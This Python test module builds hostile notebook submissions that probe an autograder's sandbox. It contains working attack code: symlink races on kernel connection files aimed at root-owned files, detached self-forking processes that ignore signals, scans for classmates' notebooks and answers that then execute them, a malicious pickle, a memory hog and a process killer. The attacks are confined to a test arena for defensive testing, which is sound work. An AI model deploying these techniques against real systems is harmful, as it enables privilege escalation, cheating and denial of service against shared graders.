"""Hostile submissions for tests/test_grading_attacks.py, built from the student notebook.

Each attack is the student notebook ``exercises/00_start_here.ipynb`` with one or
a few cells changed (helpers of ``tests/submissions/make_submissions.py``), or a
file that is not a notebook at all. The attacks only aim at paths the test
hands them in an :class:`Arena` (a throw-away folder under ``/tmp`` with a copy
of the kit, a decoy root-only file, a drop folder): never at the worktree.

Processes an attack leaves behind name themselves ``arena.tag`` (``prctl``
``PR_SET_NAME``), stop when ``arena.stop`` exists and after at most
``LIFETIME`` seconds, so that a run against a grader that lets them live
cannot keep them for long, and the test can find and end exactly them.
"""

from __future__ import annotations

import base64
import importlib.util
import json
import struct
from dataclasses import dataclass
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]

_spec = importlib.util.spec_from_file_location(
    "make_submissions", ROOT / "tests" / "submissions" / "make_submissions.py")
ms = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(ms)

Notebook = dict[str, Any]
LIFETIME = 150  # seconds an attack's leftover process lives at most

#: Points per question of the prepared submissions the honest students copy.
FULL = ms.points()
PARTLY_WRONG_A = ms.points(q2=0, q6=0)  # s03's answers: 9 of 11
PARTLY_WRONG_B = ms.points(q4=0, q5=0, q7=0)  # s04's answers: 8 of 11
#: The readers' own (wrong) answers: q1 and q2 right, the rest wrong (q9 and q10 right): 4 of 11.
OWN_WRONG = ms.points(q3=0, q4=0, q5=0, q6=0, q7=0, q8=0)


@dataclass(frozen=True)
class Arena:
    """Where attacks may aim: everything here belongs to one test session."""

    tag: str  # process name of leftovers (<= 15 bytes), also in the kernels' environment
    kit: Path  # a copy of the package and exercises: the grader under test runs from it
    decoy: Path  # a root-only file (0600) in a root-only folder (0700)
    out_decoy: Path  # another one, for the links planted in the --out folder
    drop: Path  # world-writable: what an attack found or did, one file per finding
    stop: Path  # leftovers stop when this file exists
    out_dir: Path  # a not-yet-existing folder under /tmp for `--out`

    @property
    def package(self) -> Path:
        return self.kit / "ruralkit"

    @property
    def masters(self) -> Path:
        return self.kit / "exercises" / "source"


# --------------------------------------------------------------------------- honest work
def correct() -> Notebook:
    return ms.answer_all(ms.student())


def partly_wrong_a() -> Notebook:
    unweighted = (ms.SOLUTIONS["q6-answer"].splitlines()[0]
                  + '\nsat_2024 = survey_2024["sat_township"].mean()')
    return ms.answer_all(ms.student(), q2="n_villages = villages.shape[1]", q6=unweighted)


def partly_wrong_b() -> Notebook:
    return ms.answer_all(
        ms.student(),
        q4='mountain = villages[villages["terrain"] == "hill"]',
        q5='distance_by_township = villages.groupby("township_id")["distance_km"].sum()',
        q7="n_households = len(households)",
    )


def own_wrong() -> Notebook:
    """q1, q2, q9 and q10 right, q3-q8 wrong (4 of 11): what an attacker earns honestly."""
    unweighted = (ms.SOLUTIONS["q6-answer"].splitlines()[0]
                  + '\nsat_2024 = survey_2024["sat_township"].mean()')
    return ms.answer_all(
        ms.student(),
        q3='total_population = villages["population"].mean()',
        q4='mountain = villages[villages["terrain"] == "hill"]',
        q5='distance_by_township = villages.groupby("township_id")["distance_km"].sum()',
        q6=unweighted,
        q7="n_households = len(households)",
        q8=ms.SOLUTIONS["q8-answer"].splitlines()[0] + "\nax = (2 * cases_per_year).plot.bar()",
    )


def variant(student_id: str, salt: str) -> Notebook:
    seed = ms.variant_seed(student_id, salt=salt)
    return ms.personalise(correct(), student_id=student_id, seed=seed)


def text(nb: Notebook) -> bytes:
    return ms.notebook_text(nb).encode("utf-8")


# --------------------------------------------------------------------------- leftovers
# Defines _rk_detach(job, forking): runs job(step) in a process of its own that
# outlives the kernel (setsid, double fork, signals ignored), named arena.tag.
# With forking=True it forks again every step, so that a kill of "every process
# of this user" taken from one listing of /proc misses the newest generation.
_DETACH = r'''
import ctypes, glob, json, os, re, shutil, signal, stat, sys, time
_RK_TAG, _RK_STOP, _RK_DROP = {tag!r}, {stop!r}, {drop!r}
_RK_END = time.time() + {lifetime}
def _rk_found(kind, data):
    try:
        name = "%s-%s-%d-%d" % ({who!r}, kind, os.getpid(), time.monotonic_ns())
        with open(os.path.join(_RK_DROP, name), "wb") as fh:
            fh.write(data if isinstance(data, bytes) else str(data).encode())
    except OSError:
        pass
def _rk_detach(job, forking=False, step=0.002):
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        try:
            ctypes.CDLL(None).prctl(15, _RK_TAG.encode(), 0, 0, 0)
        except Exception:
            pass
        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE):
            signal.signal(s, signal.SIG_IGN)
        n = 0
        while time.time() < _RK_END and not os.path.exists(_RK_STOP):
            try:
                job(n)
            except Exception:
                pass
            n += 1
            if forking and n % 25 == 0:
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    pass
            time.sleep(step)
    finally:
        os._exit(0)
'''


def _detach_source(arena: Arena, who: str) -> str:
    return _DETACH.format(tag=arena.tag, stop=str(arena.stop), drop=str(arena.drop),
                          lifetime=LIFETIME, who=who)


def _add_cells(nb: Notebook, after: str, *sources: str) -> Notebook:
    for n, source in reversed(list(enumerate(sources))):
        ms.insert_after(nb, after, source, f"attack-{after}-{n}")
    return nb


# --------------------------------------------------------------------------- 1. takeover
_WATCHER = r'''
def _rk_kernel_dir():
    conn = get_ipython().config.get("IPKernelApp", {{}}).get("connection_file", "")
    return os.path.dirname(os.path.abspath(conn)) if conn else os.path.join(
        os.path.dirname(os.environ["HOME"]), ".grader")
_rk_kdir = _rk_kernel_dir()
_rk_own = os.path.basename(get_ipython().config.get("IPKernelApp", {{}}).get(
    "connection_file", ""))
_rk_targets = [{decoy!r}, {set00!r}, {init!r}]
_rk_pkg = {package!r}
def _rk_watch(n):
    # one pass of a tight, inotify-free poll: plant links where the next
    # connection files will be written, swap fresh ones for links
    for k in range(200):
        target = _rk_targets[(n + k) % len(_rk_targets)]
        for attempt in (1, 2, 3, 4):
            path = os.path.join(_rk_kdir, "kernel-%d.json" % attempt)
            if os.path.basename(path) == _rk_own:
                continue
            try:
                info = os.lstat(path)
            except FileNotFoundError:
                try:
                    os.symlink(target, path)
                except OSError:
                    pass
                continue
            except OSError:
                continue
            if stat.S_ISREG(info.st_mode):
                tmp = os.path.join(_rk_kdir, ".rk-%d" % os.getpid())
                try:
                    os.symlink(target, tmp)
                    os.rename(tmp, path)
                except OSError:
                    pass
    for target in _rk_targets:  # won? then use it
        try:
            if os.stat(target).st_uid == os.getuid():
                with open(target, "a") as fh:
                    fh.write("\n# taken over by a graded notebook\n")
                _rk_found("won", target)
        except OSError:
            pass
    for name in ("PWNED.py", "exercises/PWNED.py"):  # write into the package
        try:
            with open(os.path.join(_rk_pkg, name), "w") as fh:
                fh.write("raise SystemExit\n")
            _rk_found("wrote-package", name)
        except OSError:
            pass
    for copy in glob.glob("/tmp/ruralkit-grade-*/private/*.ipynb"):  # the next students
        try:
            with open(copy, "rb") as fh:
                if _RK_TAG.encode() not in fh.read():
                    continue  # not a notebook of this test session: leave it alone
            with open(copy, "a") as fh:
                fh.write(" ")
            _rk_found("changed-copy", copy)
        except OSError:
            pass
_rk_detach(_rk_watch, step=0)
'''


def takeover(arena: Arena) -> Notebook:
    """Correct answers, a watcher left running, then two crashes: the grader re-runs the
    notebook twice while the watcher races the root worker for the connection files."""
    nb = correct()
    watcher = _detach_source(arena, "takeover") + _WATCHER.format(
        decoy=str(arena.decoy), set00=str(arena.package / "exercises" / "set00.py"),
        init=str(arena.package / "__init__.py"), package=str(arena.package))
    return _add_cells(nb, "q1-check", watcher, "import os\n\nos._exit(1)",
                      "import ctypes\n\nctypes.string_at(0)")


#: A ``sitecustomize`` for the grader's processes (only with ``RURALKIT_ATTACK_CHOWN_DELAY``
#: set): ``os.chown`` of a ``.json`` path waits that many seconds first, and counts
#: itself in ``RURALKIT_ATTACK_CHOWN_LOG``. It makes the connection-file race
#: deterministic: a grader that chowns through a path the kernel's user can change
#: loses it every time; one that uses a file descriptor, or no chown, never calls it.
CHOWN_DELAY_HOOK = r'''
import os, time
_delay = os.environ.get("RURALKIT_ATTACK_CHOWN_DELAY")
if _delay and os.geteuid() == 0:
    _chown = os.chown
    def _slow_chown(path, *args, **kwargs):
        if isinstance(path, str) and path.endswith(".json"):
            time.sleep(float(_delay))
            try:
                with open(os.environ["RURALKIT_ATTACK_CHOWN_LOG"], "a") as fh:
                    fh.write(path + "\n")
            except (KeyError, OSError):
                pass
        return _chown(path, *args, **kwargs)
    os.chown = _slow_chown
'''


# --------------------------------------------------------------------------- 2. stopping
def superscript_set() -> Notebook:
    nb = correct()
    nb["metadata"]["ruralkit"]["exercise_set"] = "²"  # "²".isdigit() is True
    return nb


def huge_seed_comment() -> Notebook:
    nb = correct()
    return _add_cells(nb, "setup", "# rk.set_variant(" + "7" * 5000 + ")")


def many_outputs(n: int = 200_000) -> bytes:
    """Correct answers, and one cell with ``n`` tiny saved outputs (compact JSON, 10 MB)."""
    nb = json.loads(ms.notebook_text(correct()))
    cell = ms.cell(nb, "q1-answer")
    cell["outputs"] = [{"output_type": "stream", "name": "stdout", "text": "."}] * n
    return json.dumps(nb, separators=(",", ":")).encode("utf-8")


def not_json(size: int = 1_000_000) -> bytes:
    return (b"\x89not a notebook\x00" * (size // 16 + 1))[:size]


# --------------------------------------------------------------------------- 3. reading
_READER = r'''
import glob, json, os, re, time
_rk_seen, _rk_answers = set(), {{}}
def _rk_take(path, kind):
    if path in _rk_seen or os.path.basename(path) == {own!r}:
        return
    try:
        with open(path, "rb") as fh:
            data = fh.read(5_000_000)
    except OSError:
        return
    _rk_seen.add(path)
    _rk_found(kind, path.encode() + b"\n" + data[:2000])
    try:
        nb = json.loads(data)
        cells = nb["cells"]
    except Exception:
        return
    for cell in cells:
        m = re.fullmatch(r"(q\d+)-answer", str(cell.get("id", "")))
        src = "".join(cell.get("source", ""))
        if m and "____" not in src:
            code = "\n".join(re.sub(r"\s*# SOLUTION.*", "", line) for line in src.splitlines())
            _rk_answers.setdefault(m.group(1), []).append((kind, code))
def _rk_search(n):
    pkg = {package!r}
    where = [("notebook", p) for p in glob.glob("/tmp/ruralkit-grade-*/**/*.ipynb",
                                                 recursive=True)]
    where += [("spec", p) for p in glob.glob("/tmp/ruralkit-grade-*/**/spec.json",
                                             recursive=True)]
    where += [("result", p) for p in glob.glob("/tmp/ruralkit-grade-*/**/result.json",
                                               recursive=True)]
    where += [("token", p) for p in glob.glob("/tmp/ruralkit-grade-*/**/answers-*",
                                              recursive=True)]
    where += [("notebook", p) for p in glob.glob({subs!r} + "/**/*.ipynb", recursive=True)]
    where += [("master", p) for p in glob.glob(pkg + "/../exercises/source/*.ipynb")]
    where += [("notebook", p) for p in glob.glob("/tmp/*.ipynb") + glob.glob("/tmp/*/*.ipynb")]
    for kind, path in where:
        if os.path.isfile(path):
            _rk_take(path, kind)
'''

_USE_FOUND = r'''
_rk_deadline = time.monotonic() + {seconds}
while time.monotonic() < _rk_deadline:
    _rk_search(0)
    time.sleep(0.05)
for _rk_q, _rk_found_codes in sorted(_rk_answers.items()):
    for _rk_kind, _rk_code in sorted(_rk_found_codes, key=lambda kc: kc[0] == "master"):
        try:
            exec(_rk_code, globals())
        except Exception:
            pass
'''


def reader(arena: Arena, subs: Path, own: str, seconds: float = 6) -> Notebook:
    """Wrong answers of its own; then, for ``seconds``, looks for classmates' notebooks,
    tokens, results and the masters' solutions, and runs every answer it found."""
    nb = own_wrong()
    search = _detach_source(arena, "reader") + _READER.format(
        own=own, package=str(arena.package), subs=str(subs))
    nb["cells"].append({"cell_type": "code", "execution_count": None, "id": "attack-read",
                        "metadata": {}, "outputs": [],
                        "source": search + _USE_FOUND.format(seconds=seconds)})
    return nb


def forker(arena: Arena, subs: Path, own: str) -> Notebook:
    """Wrong answers; leaves a process that keeps forking and, while the next
    students are graded, looks for their notebooks, tokens and results."""
    nb = own_wrong()
    search = _detach_source(arena, "forker") + _READER.format(
        own=own, package=str(arena.package), subs=str(subs))
    return _add_cells(nb, "q8-check", search + "_rk_detach(_rk_search, forking=True, step=0.02)")


# --------------------------------------------------------------------------- 4. identity
def copied_variant(source_id: str, student_id: str, salt: str) -> Notebook:
    """The classmate's personalised notebook, correct for the classmate's variant, with
    one metadata field edited to claim to be ``student_id``'s."""
    nb = variant(source_id, salt)
    nb["metadata"]["ruralkit"]["student_id"] = student_id
    return nb


def variant_deleted(student_id: str, salt: str) -> Notebook:
    """A personalised notebook whose ``set_variant`` line was deleted: it works on the
    bundled county, while the metadata keeps the student's seed."""
    nb = variant(student_id, salt)
    setup = ms.cell(nb, "setup")
    setup["source"] = "\n".join(line for line in setup["source"].split("\n")
                                if "set_variant" not in line)
    return nb


_PLANT_OUT = r'''
import os
_rk_out = {out_dir!r}
try:
    os.makedirs(_rk_out, exist_ok=True)
    os.chmod(_rk_out, 0o777)
    os.symlink({decoy!r}, os.path.join(_rk_out, {csv_name!r}))
    os.symlink(os.path.dirname({decoy!r}), os.path.join(_rk_out, {feedback_name!r}))
except OSError as exc:
    print("blocked:", exc)
'''


def plant_out(arena: Arena, csv_name: str) -> Notebook:
    """Correct answers; creates the not-yet-existing ``--out`` folder and plants links
    (to ``arena.out_decoy`` and its folder) where the gradebook and the feedback
    folder will be written."""
    nb = correct()
    stem = csv_name.rsplit(".", 1)[0]
    return _add_cells(nb, "q1-check", _PLANT_OUT.format(
        out_dir=str(arena.out_dir), decoy=str(arena.out_decoy), csv_name=csv_name,
        feedback_name=stem + "_feedback"))


# --------------------------------------------------------------------------- 5. resources
_MEMORY = r'''
import os
_rk_chunks = []
for _rk_i in range(1, {steps} + 1):
    _rk_chunks.append(b"\x01" * (256 << 20))  # written, not just reserved
    _rk_found("memory", str(_rk_i * 256))
del _rk_chunks
'''


def memory_hog(arena: Arena, steps: int = 24) -> Notebook:
    """Correct answers and a cell that takes 256 MB at a time, up to ``steps`` * 256 MB
    (6 GB by default): stopped by a memory limit, or bounded anyway."""
    nb = correct()
    return _add_cells(nb, "q2-check", _detach_source(arena, "memory")
                      + _MEMORY.format(steps=steps))


def _bytearray_pickle(size: int) -> bytes:
    """A 30-byte pickle that builds a zero-filled bytearray of ``size`` bytes."""
    return b"\x80\x04cbuiltins\nbytearray\nJ" + struct.pack("<i", size) + b"\x85R."


_GARBAGE = r'''
import base64, glob, json, os, threading, time
def _rk_spoil():
    kdir = os.path.dirname(os.path.abspath(get_ipython().config.get("IPKernelApp", {{}}).get(
        "connection_file", os.path.join(os.path.dirname(os.environ["HOME"]), ".grader", "x"))))
    end = time.time() + 120
    while time.time() < end:
        for path in glob.glob(os.path.join(kdir, "answers*")):
            if path.endswith(".part") or os.path.islink(path):
                continue
            name = os.path.basename(path)
            token = name.split("-", 1)[-1].split(".")[0]
            blob = base64.b64decode({blob!r})
            entry = {{"state": "value", "type": "DataFrame", "size": 10 ** 18,
                     "shape": [2 ** 40, 2 ** 40], "pickle": base64.b64encode(blob).decode()}}
            payload = {{"token": token, "length": 10 ** 18,
                       "answers": {{v: entry for v in ("villages", "n_villages",
                                   "total_population", "mountain", "sat_2024")}},
                       "names": ["x" * 200] * 10000}}
            tmp = os.path.join(kdir, ".rk-garbage")
            with open(tmp, "w") as fh:
                json.dump(payload, fh)
            os.replace(tmp, path)
            return
        time.sleep(0.001)
threading.Thread(target=_rk_spoil, daemon=True).start()
'''


def garbage_answers(size: int = 1 << 28) -> Notebook:
    """Correct answers; a thread that, as soon as the grader's last cell writes the
    answer file, overwrites it with garbage declaring huge sizes (and a tiny pickle
    that would build a ``size``-byte bytearray on the root side, once per answer)."""
    nb = correct()
    blob = base64.b64encode(_bytearray_pickle(size)).decode("ascii")
    return _add_cells(nb, "q1-check", _GARBAGE.format(blob=blob))


_KILLER = r'''
_rk_me = os.getuid()
def _rk_kill(n):
    for entry in os.listdir("/proc"):
        if not entry.isdigit() or int(entry) == os.getpid():
            continue
        try:
            if os.stat("/proc/" + entry).st_uid != _rk_me:
                continue
            with open("/proc/%s/environ" % entry, "rb") as fh:
                env = fh.read()
            with open("/proc/%s/comm" % entry, "rb") as fh:
                comm = fh.read().strip()
        except OSError:
            continue
        if comm != _RK_TAG.encode() and ("RURALKIT_ATTACK_TAG=" + _RK_TAG).encode() in env:
            try:
                os.kill(int(entry), signal.SIGKILL)
                _rk_found("killed", entry)
            except OSError:
                pass
_rk_detach(_rk_kill, forking=True, step=0.02)
'''


def killer(arena: Arena) -> Notebook:
    """Correct answers; leaves a process that kills the later kernels of its own user
    (only those of this test session: their environment carries ``arena.tag``)."""
    nb = correct()
    return _add_cells(nb, "q8-check", _detach_source(arena, "killer") + _KILLER)
